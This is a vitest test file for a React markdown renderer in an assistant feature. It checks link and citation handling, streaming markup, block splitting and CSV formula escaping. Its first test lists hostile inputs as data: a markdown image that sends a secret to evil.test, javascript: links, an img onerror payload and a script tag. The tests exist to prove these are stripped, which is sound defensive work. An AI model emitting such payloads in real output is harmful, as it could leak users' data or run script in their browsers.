import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { MemoryRouter } from "react-router-dom";
import { expect, test } from "vitest";
import { IntlProvider } from "use-intl";
import { ShellContext, type ShellData } from "#app/components/shell/shell-context.tsx";
import { CitedSources } from "./cited-sources.ts";
import { blocksOf } from "./markdown-blocks.ts";
import Markdown from "./markdown.tsx";
import { csvOf } from "./results/csv.ts";
import { wordsOfSource } from "./results/sources.ts";

// why: of the frame only the role is asked, for the links that it may open
const frame = { user: { role: "operator" } } as unknown as ShellData;

const drawn = (text: string, streaming: boolean) =>
  createElement(
    ShellContext.Provider,
    { value: frame },
    createElement(MemoryRouter, null, createElement(Markdown, { text, streaming })),
  );
const htmlOf = (text: string, streaming = false) => renderToStaticMarkup(drawn(text, streaming));

test("nothing that a model writes reaches another site: no image, no foreign link, no HTML, no script", () => {
  const hostile = [
    "![x](https://evil.test/?d=secret)",
    "[click](https://evil.test/a)",
    "[click](//evil.test)",
    "[click](/\\evil.test)",
    "[click](javascript:alert(1))",
    "<img src=https://evil.test/x onerror=alert(1)>",
    "https://evil.test/auto",
    "<script>alert(1)</script>",
    "![x][r]\n\n[r]: https://evil.test/r",
  ];
  for (const text of hostile) expect(htmlOf(text), text).not.toMatch(/<(?:a|img|script)\b/);
  expect(htmlOf("[the machine](/machines?query=5500)")).toMatch(/<a [^>]*href="\/machines\?query=5500"/);
});

test("a source's number opens its place, one that no search has given is left out, and code stays code", () => {
  const sources = new Map([[1, { name: "870.0.1260", link: "/engineer-dashboard?machineId=1&report=7" }]]);
  const cited = (text: string, known?: typeof sources) =>
    renderToStaticMarkup(
      createElement(IntlProvider, {
        locale: "en",
        timeZone: "UTC",
        messages: { assistant: { result: { source: "Source {number}: {name}" } } },
        children: createElement(CitedSources.Provider, { value: known }, drawn(text, false)),
      }),
    );
  const html = cited("Fins cleaned [1], pump changed [99]. `list[1]`", sources);
  expect(html).toContain('href="/engineer-dashboard?machineId=1&amp;report=7"');
  expect(html).toContain('aria-label="Source 1: 870.0.1260"');
  expect(html).not.toContain("99");
  expect(html).toContain("<code>list[1]</code>");
  expect(cited("the first of [1]")).toContain("[1]");
});

test("what a source says comes without the head that its entry shows already", () => {
  const about = {
    number: 1,
    id: 7,
    machineId: 1,
    serialNumber: "EX395-11171",
    customerName: "Corrib & Co. Quarries",
    page: null,
    title: null,
    actions: [],
    parts: [],
  };
  const text = "EX395-11171, EX 395 LC, Corrib & Co. Quarries, 2026-10-15. Oil cooler blocked";
  expect(wordsOfSource({ ...about, source: "issue", date: "2026-10-15", text })).toBe("Oil cooler blocked");
  expect(wordsOfSource({ ...about, source: "issue", date: null, text: "as it is" })).toBe("as it is");
});

test("marks that are still open are closed while a text is being written", () => {
  expect(htmlOf("This is **impor", true)).toContain("<strong>impor</strong>");
});

test("a text is split at blank lines, but not inside code, lists and what is indented", () => {
  expect(blocksOf("One\n\nTwo\nthree")).toEqual(["One\n", "Two\nthree"]);
  expect(blocksOf("```\na\n\nb\n```\n\nafter")).toHaveLength(2);
  expect(blocksOf("- a\n\n- b\n\n  more of b\n\nend")).toEqual(["- a\n\n- b\n\n  more of b\n", "end"]);
  expect(blocksOf("")).toEqual([]);
});

test("what a spreadsheet would run as a formula is text in the file", () => {
  expect(
    csvOf([
      { a: "=1+1", b: 'say "x", y', c: { nested: 1 } },
      { a: -5, d: null },
    ]),
  ).toBe('a,b,d\r\n\'=1+1,"say ""x"", y",\r\n-5,,');
});
